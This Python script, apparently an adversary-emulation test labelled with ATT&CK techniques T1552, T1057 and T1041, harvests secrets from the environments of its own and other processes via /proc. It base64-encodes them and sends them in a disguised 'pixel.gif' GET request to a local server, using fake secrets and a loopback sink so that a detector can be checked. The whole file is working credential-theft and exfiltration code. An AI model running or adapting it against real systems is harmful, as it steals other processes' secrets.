# technique: T1552 T1057 T1041
"""Unsecured Credentials (T1552) held in environment variables, collected
from this process and from other processes' /proc/<pid>/environ (Process
Discovery, T1057), and sent in the query string of an HTTP GET
(T1041).

Starts a child (sleep) whose environment holds a fake AWS secret, as a
service would, then iterates /proc, reads every readable
/proc/<pid>/environ, keeps NAME=value pairs whose name looks like
KEY/TOKEN/SECRET/PASSWORD, adds os.environ's, and sends them base64 in a
GET's query string to a loopback http.server.

A good detector raises a high alert: a program reads other processes'
environments and then sends data out.
"""
import base64
import http.server
import os
import re
import subprocess
import threading
import urllib.request

victim = subprocess.Popen(["sleep", "5"], env=dict(os.environ, AWS_SECRET_ACCESS_KEY="fakeSECRETfake",
                                                  DB_PASSWORD="fakepw"))
try:
    wanted = re.compile(rb"^[A-Z0-9_]*(KEY|TOKEN|SECRET|PASSW)[A-Z0-9_]*=", re.I)
    loot = set()
    for k, v in os.environ.items():
        if wanted.match(f"{k}=".encode()):
            loot.add(f"{k}={v}".encode())
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/environ", "rb") as f:
                    loot.update(x for x in f.read().split(b"\0") if wanted.match(x))
            except OSError:
                pass

    class Sink(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.end_headers()

        def log_message(self, *a):
            pass

    srv = http.server.HTTPServer(("127.0.0.1", 0), Sink)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    q = base64.urlsafe_b64encode(b"\n".join(sorted(loot))).decode()
    urllib.request.urlopen(f"http://127.0.0.1:{srv.server_address[1]}/pixel.gif?d={q}", timeout=5).close()
    srv.shutdown()
    print(len(loot), "secrets")
finally:
    victim.kill()
    victim.wait()
